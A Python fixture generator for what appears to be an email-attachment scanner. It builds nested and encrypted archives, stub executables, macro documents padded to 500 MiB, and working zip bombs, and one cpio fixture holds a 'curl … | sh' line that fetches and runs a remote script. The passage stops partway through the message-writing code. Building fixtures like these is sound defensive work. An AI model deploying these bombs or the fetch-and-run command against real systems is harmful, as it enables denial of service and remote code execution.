#!/usr/bin/env python3
"""make_fixtures.py - archive, bomb and padded-document fixtures for mamori.

    make_fixtures.py OUTDIR [--only NAME...] [--big] [--list]

Writes each fixture's attachment file into OUTDIR, a small RFC 5322 message
carrying it as OUTDIR/NAME.eml, and the manifest OUTDIR/fixtures.json (the
format is described in tests/support/README.md).  With --only, the manifest
already in OUTDIR keeps its other entries.  Fixtures marked big (500 MB
once unpacked) are made only with --big or when named in --only.

Python standard library plus the Debian tools zip, 7z, gcab and xorriso.
Archives this script writes itself (ZIP with ZIP64, ZipCrypto, overlapping
entries; RAR 4 and RAR 5 headers; cpio; tar) are byte-for-byte reproducible;
those made by zip -P and 7z with a password carry random salts and IVs, so
only their structure is reproducible.  Nothing here touches the network.
"""

import argparse
import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import urllib.parse
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "data")

EPOCH = 1672560000  # 2023-01-01 08:00:00 UTC, every mtime we write
DOS_TIME = (8 << 11)  # 08:00:00
DOS_DATE = ((2023 - 1980) << 9) | (1 << 5) | 1  # 2023-01-01
MiB = 1024 * 1024
PADDING = 500 * MiB  # the Emotet 2023 case
PASSWORD = "secret"


# ---- CRC-32 helpers --------------------------------------------------------
# crc32(A || B) from crc32(A), crc32(B) and len(B): push crc32(A) through
# len(B) zero bytes of the raw register (a GF(2)-linear map), then xor.

def _gf2_apply(cols, vec):
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= cols[i]
        vec >>= 1
        i += 1
    return out


def _gf2_compose(a, b):
    return [_gf2_apply(a, c) for c in b]


_ZEROS_OP = {}


def _zeros_op(nbytes):
    op = _ZEROS_OP.get(nbytes)
    if op is None:
        bit = [0xEDB88320] + [1 << (j - 1) for j in range(1, 32)]
        base = bit
        for _ in range(3):  # one zero byte = eight zero bits
            base = _gf2_compose(base, base)
        op = [1 << j for j in range(32)]
        n = nbytes
        while n:
            if n & 1:
                op = _gf2_compose(base, op)
            base = _gf2_compose(base, base)
            n >>= 1
        _ZEROS_OP[nbytes] = op
    return op


def crc32_combine(crc1, crc2, len2):
    return _gf2_apply(_zeros_op(len2), crc1) ^ crc2


def crc32_repeat(crc, length, count):
    """crc32 of a block (crc, length) repeated count times."""
    out, op = 0, _zeros_op(length)
    for _ in range(count):
        out = _gf2_apply(op, out) ^ crc
    return out


# ---- deflate streams built from identical segments ------------------------
# A segment is a fresh raw-deflate stream of a chunk ended by Z_FULL_FLUSH:
# byte-aligned, no history, so the same segment can follow itself; b"\x03\x00"
# (an empty final fixed-Huffman block) ends the stream.  500 MiB of padding
# is then 500 copies of a ~1 KiB segment: seconds and no memory.

DEFLATE_END = b"\x03\x00"


def deflate_segment(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


class Stream:
    """Compressed parts with their uncompressed crc and size, lazily emitted."""

    def __init__(self):
        self.parts = []  # (compressed bytes, repeat)
        self.crc = 0
        self.usize = 0
        self.csize = 0

    def add(self, data, repeat=1):
        seg = deflate_segment(data)
        self.parts.append((seg, repeat))
        self.crc = crc32_combine(self.crc, crc32_repeat(zlib.crc32(data), len(data), repeat),
                                 len(data) * repeat)
        self.usize += len(data) * repeat
        self.csize += len(seg) * repeat
        return self

    def finish(self):
        self.parts.append((DEFLATE_END, 1))
        self.csize += len(DEFLATE_END)
        return self

    def chunks(self):
        for seg, n in self.parts:
            for _ in range(n):
                yield seg


def padded_stream(head, fill, total):
    """head followed by total bytes of the repeated chunk fill."""
    s = Stream()
    if head:
        s.add(head)
    n, rest = divmod(total, len(fill))
    s.add(fill, n)
    if rest:
        s.add(fill[:rest])
    return s.finish()


# ---- ZIP writer --------------------------------------------------------------

def _zipcrypto_table():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        t.append(c)
    return t


_CRCT = _zipcrypto_table()


def zipcrypto_encrypt(data, password, crc, seed):
    """Traditional PKWARE encryption; the 12-byte header is derived from seed."""
    k = [0x12345678, 0x23456789, 0x34567890]

    def update(b):
        k[0] = _CRCT[(k[0] ^ b) & 0xFF] ^ (k[0] >> 8)
        k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k[2] = _CRCT[(k[2] ^ (k[1] >> 24)) & 0xFF] ^ (k[2] >> 8)

    for b in password.encode():
        update(b)
    header = hashlib.sha256(seed).digest()[:11] + bytes([crc >> 24])
    out = bytearray()
    for b in header + data:
        t = (k[2] | 2) & 0xFFFF
        out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
        update(b)
    return bytes(out)


class ZipOut:
    """A ZIP writer that takes precomputed crc/sizes and streamed chunks."""

    def __init__(self, f):
        self.f = f
        self.cd = []
        self.any_zip64 = False

    def pos(self):
        return self.f.tell()

    @staticmethod
    def _name(name):
        b = name.encode("utf-8")
        flags = 0 if b.isascii() else 0x0800
        return b, flags

    def add_raw(self, name, method, crc, usize, csize, chunks, flags=0, zip64=False):
        nb, nflags = self._name(name)
        flags |= nflags
        offset = self.pos()
        version = 45 if zip64 else 20
        if zip64:
            self.any_zip64 = True
            extra = struct.pack("<HHQQ", 1, 16, usize, csize)
            lsizes = (0xFFFFFFFF, 0xFFFFFFFF)
        else:
            extra = b""
            lsizes = (csize, usize)
        self.f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, version, flags, method,
                                 DOS_TIME, DOS_DATE, crc, lsizes[0], lsizes[1],
                                 len(nb), len(extra)) + nb + extra)
        n = 0
        for c in chunks:
            self.f.write(c)
            n += len(c)
        assert n == csize, (name, n, csize)
        self.cd.append((nb, version, flags, method, crc, usize, csize, offset, zip64))

    def add(self, name, data, *, level=9, password=None, zip64=False):
        crc = zlib.crc32(data)
        if level:
            c = zlib.compressobj(level, zlib.DEFLATED, -15)
            body, method = c.compress(data) + c.flush(), 8
        else:
            body, method = data, 0
        flags = 0
        if password is not None:
            body = zipcrypto_encrypt(body, password, crc, name.encode() + data[:64])
            flags = 1
        self.add_raw(name, method, crc, len(data), len(body), [body], flags, zip64)

    def add_stream(self, name, stream, zip64=False):
        self.add_raw(name, 8, stream.crc, stream.usize, stream.csize, stream.chunks(),
                     zip64=zip64)

    def close(self):
        start = self.pos()
        for nb, version, flags, method, crc, usize, csize, offset, zip64 in self.cd:
            if zip64:
                extra = struct.pack("<HHQQQ", 1, 24, usize, csize, offset)
                usize = csize = offset = 0xFFFFFFFF
            else:
                extra = b""
            self.f.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | version,
                                     version, flags, method, DOS_TIME, DOS_DATE, crc, csize,
                                     usize, len(nb), len(extra), 0, 0, 0, 0o100644 << 16,
                                     offset) + nb + extra)
        end = self.pos()
        n = len(self.cd)
        if self.any_zip64:
            self.f.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, (3 << 8) | 45, 45, 0, 0,
                                     n, n, end - start, start))
            self.f.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1))
            self.f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF,
                                     0xFFFFFFFF, 0xFFFFFFFF, 0))
        else:
            self.f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, end - start,
                                     start, 0))


def zip_bytes(entries, **kw):
    """entries: [(name, data)] -> bytes of a deflated ZIP."""
    buf = io.BytesIO()
    z = ZipOut(buf)
    for name, data in entries:
        z.add(name, data, **kw)
    z.close()
    return buf.getvalue()


# ---- small payloads -----------------------------------------------------------

def make_pe(tag):
    """A minimal PE32 GUI executable (x86: xor eax,eax; ret) tagged with tag."""
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 1, EPOCH, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 14, 0, 0x200, 0, 0, 0x1000,
                      0x1000, 0x2000, 0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000,
                      0x200, 0, 2, 0x8540, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += bytes(16 * 8)
    sect = struct.pack("<8sIIIIIIHHI", b".text", 0x10 + len(tag), 0x1000, 0x200, 0x200,
                       0, 0, 0, 0, 0x60000020)
    head = bytes(dos) + coff + opt + sect
    head += bytes(0x200 - len(head))
    code = b"\x31\xC0\xC3" + bytes(13) + tag.encode()
    return head + code + bytes(0x200 - len(code))


def data_file(name):
    with open(os.path.join(DATA, name), "rb") as f:
        return f.read()


def make_docm(pad_entry=None):
    """harmless-clean.docx made macro-enabled with word/vbaProject.bin.

    pad_entry = (name, Stream): an extra zero-filled part (the padded docm).
    Returns bytes; with a 500 MB pad entry they are still ~500 KB."""
    import zipfile
    src = zipfile.ZipFile(os.path.join(DATA, "harmless-clean.docx"))
    buf = io.BytesIO()
    z = ZipOut(buf)
    for info in src.infolist():
        data = src.read(info)
        if info.filename == "[Content_Types].xml":
            data = data.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml")
            extra = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            if pad_entry and b'Extension="png"' not in data:
                extra += b'<Default Extension="png" ContentType="image/png"/>'
            data = data.replace(b"<Default ", extra + b"<Default ", 1)
        elif info.filename == "word/_rels/document.xml.rels":
            data = data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        z.add(info.filename, data)
    z.add("word/vbaProject.bin", data_file("vbaProject.bin"))
    if pad_entry:
        z.add_stream(pad_entry[0], pad_entry[1])
    z.close()
    return buf.getvalue()


def cpio_newc(entries):
    out = bytearray()

    def rec(ino, name, mode, data):
        nb = name.encode() + b"\0"
        out.extend(b"070701" + b"".join(b"%08X" % v for v in (
            ino, mode, 0, 0, 1, EPOCH, len(data), 0, 0, 0, 0, len(nb), 0)))
        out.extend(nb)
        out.extend(bytes(-len(out) % 4))
        out.extend(data)
        out.extend(bytes(-len(out) % 4))

    for i, (name, mode, data) in enumerate(entries, 1):
        rec(i, name, mode, data)
    rec(0, "TRAILER!!!", 0, b"")
    return bytes(out)


def gzip_bytes(data, name):
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=EPOCH, compresslevel=9) as g:
        g.write(data)
    return buf.getvalue()


# ---- RAR headers (RAR 4.x and RAR 5.0), encrypted entry ------------------------
# Only the headers matter to an unpacker that cannot decrypt: the data area
# is pseudo-random bytes of the right length (AES blocks of 16 bytes).

def _fake_cipher(n, seed):
    out = b""
    while len(out) < n:
        seed = hashlib.sha256(seed).digest()
        out += seed
    return out[:n]


def rar4_encrypted(name, plain):
    nb = name.encode()
    packed = _fake_cipher((len(plain) + 15) // 16 * 16, b"rar4" + nb)
    main = struct.pack("<BHHHI", 0x73, 0, 13, 0, 0)
    flags = 0x8000 | 0x0004 | 0x0400  # LONG_BLOCK | PASSWORD | SALT
    body = struct.pack("<BHHIIBIIBBHI", 0x74, flags, 32 + len(nb) + 8, len(packed), len(plain),
                       2, zlib.crc32(plain), (DOS_DATE << 16) | DOS_TIME, 29, 0x30, len(nb),
                       0x20) + nb + _fake_cipher(8, b"salt" + nb)
    end = struct.pack("<BHH", 0x7B, 0x4000, 7)

    def block(b):
        return struct.pack("<H", zlib.crc32(b) & 0xFFFF) + b
    return b"Rar!\x1a\x07\x00" + block(main) + block(body) + packed + block(end)


def _vint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def rar5_encrypted(name, plain):
    nb = name.encode()
    packed = _fake_cipher((len(plain) + 15) // 16 * 16, b"rar5" + nb)

    def block(htype, hflags, fields, extra=b"", data_size=None):
        head = _vint(htype) + _vint(hflags)
        if hflags & 1:
            head += _vint(len(extra))
        if hflags & 2:
            head += _vint(data_size)
        head += fields + extra
        head = _vint(len(head)) + head
        return struct.pack("<I", zlib.crc32(head)) + head

    check = _fake_cipher(8, b"check" + nb)
    crypt = (_vint(0) + _vint(0x0001) + bytes([15]) + _fake_cipher(16, b"salt" + nb)
             + _fake_cipher(16, b"iv" + nb) + check + hashlib.sha256(check).digest()[:4])
    crypt_rec = _vint(len(_vint(1) + crypt)) + _vint(1) + crypt
    fields = (_vint(0x0002 | 0x0004) + _vint(len(plain)) + _vint(0x20)
              + struct.pack("<II", EPOCH, zlib.crc32(plain)) + _vint(0) + _vint(0)
              + _vint(len(nb)) + nb)
    return (b"Rar!\x1a\x07\x01\x00" + block(1, 0, _vint(0))
            + block(2, 0x0003, fields, crypt_rec, len(packed)) + packed
            + block(5, 0, _vint(0)))


# ---- bombs -------------------------------------------------------------------

def bomb_42(levels=4, fanout=8, leaf=100 * MiB):
    """42.zip style: levels of nested ZIPs, fanout entries each."""
    s = padded_stream(b"", bytes(MiB), leaf)
    buf = io.BytesIO()
    z = ZipOut(buf)
    for i in range(fanout):
        z.add_stream("%d.dll" % i, s)
    z.close()
    data = buf.getvalue()
    for lvl in range(levels - 1, 0, -1):
        data = zip_bytes([("lib%d_%d.zip" % (lvl, i), data) for i in range(fanout)])
    return data, leaf * fanout ** levels


def bomb_overlap(nfiles=800, kernel_bytes=16 * MiB):
    """Overlapping entries after D. Fifield, "A better zip bomb" (2019).

    File i's deflate data is a stored block quoting the local header of
    file i+1, followed by file i+1's data; the last file is the kernel, a
    compressed run of b"a".  Every entry thus ends at the kernel's end."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"a" * MiB
    kernel = b"".join(c.compress(chunk) for _ in range(kernel_bytes // MiB)) + c.flush()
    kcrc = crc32_repeat(zlib.crc32(chunk), MiB, kernel_bytes // MiB)
    names = ["%03d" % i for i in range(nfiles)]

    def lfh(name, crc, csize, usize):
        nb = name.encode()
        return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, DOS_TIME, DOS_DATE, crc,
                           csize, usize, len(nb), 0) + nb

    # from the last file back: (crc, csize, usize, header) per file
    info = [None] * nfiles
    crc, csize, usize = kcrc, len(kernel), kernel_bytes
    suffix = b""  # headers of files i+1 .. n-1, i.e. file i's quoted text
    for i in range(nfiles - 1, -1, -1):
        if i < nfiles - 1:
            nxt = info[i + 1][3]
            suffix = nxt + suffix
            csize = 5 + len(nxt) + info[i + 1][1]
            usize = len(suffix) + kernel_bytes
            crc = crc32_combine(zlib.crc32(suffix), kcrc, kernel_bytes)
        info[i] = (crc, csize, usize, lfh(names[i], crc, csize, usize))
    out = bytearray()
    offsets = []
    for i in range(nfiles):
        offsets.append(len(out))
        out += info[i][3]
        if i < nfiles - 1:
            q = len(info[i + 1][3])
            out += struct.pack("<BHH", 0, q, q ^ 0xFFFF)
    out += kernel
    cd_start = len(out)
    for i in range(nfiles):
        crc, csize, usize, _ = info[i]
        nb = names[i].encode()
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 20, 0, 8,
                           DOS_TIME, DOS_DATE, crc, csize, usize, len(nb), 0, 0, 0, 0,
                           0o100644 << 16, offsets[i]) + nb
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, nfiles, nfiles, len(out) - cd_start,
                       cd_start, 0)
    return bytes(out), sum(x[2] for x in info)


def bomb_same_lfh(nfiles=1000, kernel_bytes=16 * MiB):
    """Every central directory entry points at the same local header."""
    s = padded_stream(b"", b"a" * MiB, kernel_bytes)
    buf = io.BytesIO()
    z = ZipOut(buf)
    z.add_stream("000", s)
    one = z.cd[0]
    z.cd = [(b"%03d" % i,) + one[1:] for i in range(nfiles)]
    z.close()
    return buf.getvalue(), nfiles * kernel_bytes


# ---- tools -------------------------------------------------------------------

def run(cmd, cwd, env=None):
    e = dict(os.environ, LC_ALL="C.UTF-8", TZ="UTC")
    if env:
        e.update(env)
    p = subprocess.run(cmd, cwd=cwd, env=e, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    if p.returncode:
        sys.exit("make_fixtures: %s failed:\n%s" % (" ".join(cmd), p.stdout.decode(errors="replace")))


def seven_zip():
    for b in ("7z", "7zz", "7za"):
        if shutil.which(b):
            return b
    sys.exit("make_fixtures: 7z not found (Debian package 7zip)")


def put(tmp, name, data, mode=0o644):
    p = os.path.join(tmp, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    os.chmod(p, mode)
    os.utime(p, (EPOCH, EPOCH))
    return p


def slurp(path):
    with open(path, "rb") as f:
        return f.read()


# ---- the fixtures ----------------------------------------------------------------
# Each builder gets a scratch dir and returns (attachment bytes or a writer
# function, manifest fields).  Paths in the manifest start at the attachment.

FIXTURES = []


def fixture(name, file, big=False):
    def deco(fn):
        FIXTURES.append((name, file, big, fn))
        return fn
    return deco


def tree(pairs):
    return [p for p, _ in pairs], {p: t for p, t in pairs}


@fixture("exe_in_zip_in_zip", "documents.zip")
def fx_exe_in_zip_in_zip(tmp, att):
    inner = zip_bytes([("invoice.exe", make_pe("invoice.exe"))])
    data = zip_bytes([("inner.zip", inner)])
    paths, types = tree([(att, "zip"), (att + "/inner.zip", "zip"),
                         (att + "/inner.zip/invoice.exe", "pe")])
    return data, dict(description="a PE named invoice.exe in a ZIP in a ZIP",
                      tree=paths, types=types, findings={})


@fixture("nested_targz_7z_cab", "bundle.tar.gz")
def fx_nested(tmp, att):
    z7 = seven_zip()
    put(tmp, "c.exe", make_pe("c.exe"))
    run(["gcab", "-c", "-n", "-z", "b.cab", "c.exe"], tmp)
    os.chmod(os.path.join(tmp, "b.cab"), 0o644)
    os.utime(os.path.join(tmp, "b.cab"), (EPOCH, EPOCH))
    run([z7, "a", "-t7z", "-mx=9", "-mtc=off", "-mta=off", "-bd", "a.7z", "b.cab"], tmp)
    a7 = slurp(os.path.join(tmp, "a.7z"))
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("a.7z")
        ti.size, ti.mtime, ti.mode, ti.uname, ti.gname = len(a7), EPOCH, 0o644, "", ""
        t.addfile(ti, io.BytesIO(a7))
    data = gzip_bytes(tbuf.getvalue(), "bundle.tar")
    paths, types = tree([(att, ["gzip", "tar"]), (att + "/a.7z", "7z"),
                         (att + "/a.7z/b.cab", "cab"), (att + "/a.7z/b.cab/c.exe", "pe")])
    return data, dict(description="tar.gz > 7z > cab (gcab, MSZIP) > PE",
                      tree=paths, types=types, findings={})


@fixture("iso_joliet", "setup.iso")
def fx_iso(tmp, att):
    root = os.path.join(tmp, "root")
    put(root, "setup.exe", make_pe("setup.exe"))
    put(root, "readme.txt", b"Run setup.exe to install the invoice viewer.\r\n")
    os.utime(root, (EPOCH, EPOCH))
    run(["xorriso", "-as", "mkisofs", "-quiet", "-J", "-V", "SETUP", "-o", "setup.iso", "root"],
        tmp, env={"SOURCE_DATE_EPOCH": str(EPOCH)})
    paths, types = tree([(att, "iso"), (att + "/setup.exe", "pe"),
                         (att + "/readme.txt", "text")])
    return slurp(os.path.join(tmp, "setup.iso")), dict(
        description="ISO 9660 image with Joliet names (xorriso): setup.exe and readme.txt",
        tree=paths, types=types, findings={})


@fixture("single_xz", "x.exe.xz")
def fx_xz(tmp, att):
    data = lzma.compress(make_pe("x.exe"), format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64)
    paths, types = tree([(att, "xz"), (att + "/x.exe", "pe")])
    return data, dict(description="a PE compressed with xz (child named by dropping .xz)",
                      tree=paths, types=types, findings={})


@fixture("single_bz2", "y.exe.bz2")
def fx_bz2(tmp, att):
    paths, types = tree([(att, "bzip2"), (att + "/y.exe", "pe")])
    return bz2.compress(make_pe("y.exe"), 9), dict(
        description="a PE compressed with bzip2 (child named by dropping .bz2)",
        tree=paths, types=types, findings={})


@fixture("single_gz", "z.exe.gz")
def fx_gz(tmp, att):
    paths, types = tree([(att, "gzip"), (att + "/z.exe", "pe")])
    return gzip_bytes(make_pe("z.exe"), "z.exe"), dict(
        description="a PE compressed with gzip (FNAME z.exe in the header)",
        tree=paths, types=types, findings={})


@fixture("zip64_pe", "report.zip")
def fx_zip64(tmp, att):
    buf = io.BytesIO()
    z = ZipOut(buf)
    z.add("report.exe", make_pe("report.exe"), zip64=True)
    z.close()
    paths, types = tree([(att, "zip"), (att + "/report.exe", "pe")])
    return buf.getvalue(), dict(
        description="ZIP64: zip64 extra fields in local and central headers, "
                    "ZIP64 end-of-central-directory record and locator; holds a PE",
        tree=paths, types=types, findings={})


@fixture("cpio_script", "scripts.cpio")
def fx_cpio(tmp, att):
    script = (b"#!/bin/sh\n# installer\ncurl -s http://203.0.113.7/p.sh | sh\n")
    paths, types = tree([(att, "cpio"), (att + "/install.sh", "sh")])
    return cpio_newc([("install.sh", 0o100755, script)]), dict(
        description="cpio (newc) holding a shell script", tree=paths, types=types, findings={})


def _enc(path, cipher, content_type=None, names_visible=True):
    e = {"path": path, "cipher": cipher, "password": PASSWORD, "names_visible": names_visible}
    if content_type:
        e["content_type"] = content_type
    return e


@fixture("enc_zipcrypto", "secret.zip")
def fx_zipcrypto(tmp, att):
    put(tmp, "a.docm", make_docm())
    run(["zip", "-q", "-X", "-D", "-P", PASSWORD, "secret.zip", "a.docm"], tmp)
    paths, types = tree([(att, "zip"), (att + "/a.docm", None)])
    return slurp(os.path.join(tmp, "secret.zip")), dict(
        description="ZIP, one .docm encrypted with ZipCrypto (zip -P)", tree=paths, types=types,
        findings={"encrypted": [_enc(att + "/a.docm", "ZipCrypto", "docm")]})


def _7z_zip_aes(tmp, att, bits):
    put(tmp, "a.docm", make_docm())
    run([seven_zip(), "a", "-tzip", "-mem=AES%d" % bits, "-p" + PASSWORD, "-bd", att,
         "a.docm"], tmp)
    paths, types = tree([(att, "zip"), (att + "/a.docm", None)])
    return slurp(os.path.join(tmp, att)), dict(
        description="ZIP, one .docm encrypted with WinZip AES-%d (7z -mem=AES%d)" % (bits, bits),
        tree=paths, types=types,
        findings={"encrypted": [_enc(att + "/a.docm", "AES-%d" % bits, "docm")]})


@fixture("enc_zip_aes256", "aes256.zip")
def fx_aes256(tmp, att):
    return _7z_zip_aes(tmp, att, 256)


@fixture("enc_zip_aes128", "aes128.zip")
def fx_aes128(tmp, att):
    return _7z_zip_aes(tmp, att, 128)


@fixture("enc_7z_aes", "secret.7z")
def fx_7z_aes(tmp, att):
    put(tmp, "a.docm", make_docm())
    run([seven_zip(), "a", "-t7z", "-p" + PASSWORD, "-mtc=off", "-mta=off", "-bd", att,
         "a.docm"], tmp)
    paths, types = tree([(att, "7z"), (att + "/a.docm", None)])
    return slurp(os.path.join(tmp, att)), dict(
        description="7z, AES-256 (7zAES) content, names visible", tree=paths, types=types,
        findings={"encrypted": [_enc(att + "/a.docm", "7zAES", "docm")]})


@fixture("enc_7z_headers", "headers.7z")
def fx_7z_hdr(tmp, att):
    put(tmp, "a.docm", make_docm())
    run([seven_zip(), "a", "-t7z", "-p" + PASSWORD, "-mhe=on", "-mtc=off", "-mta=off", "-bd",
         att, "a.docm"], tmp)
    paths, types = tree([(att, "7z")])
    return slurp(os.path.join(tmp, att)), dict(
        description="7z with encrypted headers (-mhe=on): an encrypted archive whose "
                    "entries are unknown without the password (it holds a.docm)",
        tree=paths, types=types,
        findings={"encrypted": [_enc(att, "7zAES", names_visible=False)]})


@fixture("enc_rar4", "secret4.rar")
def fx_rar4(tmp, att):
    paths, types = tree([(att, "rar"), (att + "/a.docm", None)])
    return rar4_encrypted("a.docm", make_docm()), dict(
        description="RAR 4.x (written by this script): one stored entry with the password "
                    "and salt flags; data is random bytes (cannot be decrypted)",
        tree=paths, types=types,
        findings={"encrypted": [dict(_enc(att + "/a.docm", "RAR"), password=None)]})


@fixture("enc_rar5", "secret5.rar")
def fx_rar5(tmp, att):
    paths, types = tree([(att, "rar"), (att + "/a.docm", None)])
    return rar5_encrypted("a.docm", make_docm()), dict(
        description="RAR 5.0 (written by this script): one stored entry with a file "
                    "encryption extra record (AES-256); data is random bytes",
        tree=paths, types=types,
        findings={"encrypted": [dict(_enc(att + "/a.docm", "RAR"), password=None)]})


@fixture("enc_zip_mixed", "mixed.zip")
def fx_mixed(tmp, att):
    buf = io.BytesIO()
    z = ZipOut(buf)
    z.add("readme.txt", b"The invoice is in invoice.docm; the password follows.\r\n")
    z.add("invoice.docm", make_docm(), password=PASSWORD)
    z.close()
    paths, types = tree([(att, "zip"), (att + "/readme.txt", "text"),
                         (att + "/invoice.docm", None)])
    return buf.getvalue(), dict(
        description="ZIP with one plain entry and one ZipCrypto entry", tree=paths, types=types,
        findings={"encrypted": [_enc(att + "/invoice.docm", "ZipCrypto", "docm")]})


@fixture("ppap_japanese", "見積書.zip")
def fx_ppap(tmp, att):
    buf = io.BytesIO()
    z = ZipOut(buf)
    z.add("見積書.docm", make_docm(), password=PASSWORD)
    z.close()
    paths, types = tree([(att, "zip"), (att + "/見積書.docm", None)])
    return buf.getvalue(), dict(
        description="PPAP: 見積書.zip holding 見積書.docm, ZipCrypto, UTF-8 names (flag bit 11)",
        tree=paths, types=types,
        findings={"encrypted": [_enc(att + "/見積書.docm", "ZipCrypto", "docm")]},
        eml={"subject": "=?UTF-8?B?%s?=" % base64.b64encode("お見積書の送付".encode()).decode(),
             "body": "お世話になっております。\r\nお見積書を添付いたします。\r\n"
                     "パスワードは別途メールにてお送りします。\r\n"})


@fixture("bomb_42", "bomb42.zip")
def fx_bomb42(tmp, att):
    data, total = bomb_42()
    return data, dict(
        description="42.zip style: 4 levels of nested ZIPs, 8 entries each; 4096 leaves of "
                    "100 MiB of zeros", tree=[att], types={att: "zip"}, complete=False,
        findings={"bomb": True},
        claims={"levels": 4, "fanout": 8, "leaf_bytes": 100 * MiB, "total_bytes": total})


@fixture("bomb_overlap", "overlap.zip")
def fx_overlap(tmp, att):
    data, total = bomb_overlap()
    return data, dict(
        description="overlapping-entry ZIP bomb (Fifield 2019): 800 entries, each quoting the "
                    "next local header in a stored block and sharing one 16 MiB kernel",
        tree=[att], types={att: "zip"}, complete=False, findings={"bomb": True},
        claims={"entries": 800, "total_bytes": total})


@fixture("bomb_same_lfh", "samelfh.zip")
def fx_samelfh(tmp, att):
    data, total = bomb_same_lfh()
    return data, dict(
        description="1000 central directory entries all pointing at one local header "
                    "(16 MiB of b'a')", tree=[att], types={att: "zip"}, complete=False,
        findings={"bomb": True}, claims={"entries": 1000, "total_bytes": total})


@fixture("bomb_ratio_2g", "disk.zip")
def fx_ratio(tmp, att):
    s = padded_stream(b"", bytes(64 * MiB), 2 * 1024 * MiB)

    def write(f):
        z = ZipOut(f)
        z.add_stream("disk.img", s)
        z.close()
    return write, dict(
        description="one entry of 2 GiB of zeros (~2 MB compressed)", tree=[att],
        types={att: "zip"}, complete=False, findings={"bomb": True},
        claims={"entries": 1, "total_bytes": 2 * 1024 * MiB})


JUNK = b"<!-- Lorem ipsum dolor sit amet, consectetur adipiscing el -->\r\n"
assert len(JUNK) == 64


def _padded_ole(att, fill, kind):
    doc = data_file("excel4_sample_macro.xls")
    s = padded_stream(doc, fill, PADDING)

    def write(f):
        z = ZipOut(f)
        z.add_stream("invoice.xls", s)
        z.close()
    inner = att + "/invoice.xls"
    return write, dict(
        description="Emotet 2023: a macro workbook (Excel 4.0 macro, Auto_Open) followed by "
                    "500 MiB of %s, deflated into a ~500 KB ZIP" % kind,
        tree=[att, inner], types={att: "zip", inner: "ole2"},
        findings={"padded": {"path": inner, "padding_bytes": PADDING, "padding": kind},
                  "macros": [{"path": inner, "kind": "xlm"}]},
        claims={"document_bytes": len(doc), "total_bytes": len(doc) + PADDING})


@fixture("padded_ole_zeros", "Invoice_2023.zip", big=True)
def fx_padded_zeros(tmp, att):
    return _padded_ole(att, bytes(MiB), "zeros")


@fixture("padded_ole_junk", "Rechnung.zip", big=True)
def fx_padded_junk(tmp, att):
    return _padded_ole(att, JUNK * (MiB // 64), "junk")


@fixture("padded_docm_entry", "order.zip", big=True)
def fx_padded_docm(tmp, att):
    s = padded_stream(b"", bytes(MiB), PADDING)
    docm = make_docm(("word/media/image1.png", s))
    inner = att + "/invoice.docm"
    return zip_bytes([("invoice.docm", docm)]), dict(
        description="a .docm with word/vbaProject.bin and a 500 MiB zero-filled "
                    "word/media/image1.png, in a ZIP",
        tree=[att, inner], types={att: "zip", inner: "docm"},
        findings={"padded": {"path": inner + "/word/media/image1.png",
                             "padding_bytes": PADDING, "padding": "zeros"},
                  "macros": [{"path": inner, "kind": "vba"}]},
        claims={"docm_bytes": len(docm)})


# ---- the message --------------------------------------------------------------

def write_eml(path, name, att_name, att_path, extra):
    extra = extra or {}
    boundary = "=_mamori_fixture_" + hashlib.sha1(name.encode()).hexdigest()[:16]
    if att_name.isascii():
        disp = 'attachment; filename="%s"' % att_name
        ctype = 'application/octet-stream; name="%s"' % att_name
    else:
        enc = urllib.parse.quote(att_name, safe="")
        word = "=?UTF-8?B?%s?=" % base64.b64encode(att_name.encode()).decode()
        disp = "attachment; filename*=UTF-8''%s" % enc
        ctype = 'application/octet-stream; name="%s"' % word
    body = extra.get("body", "Please find the attached file (%s).\r\n" % att_name)
    head = "\r\n".join([
        "From: Accounts <accounts@sender.example>",
        "To: user@recipient.example",
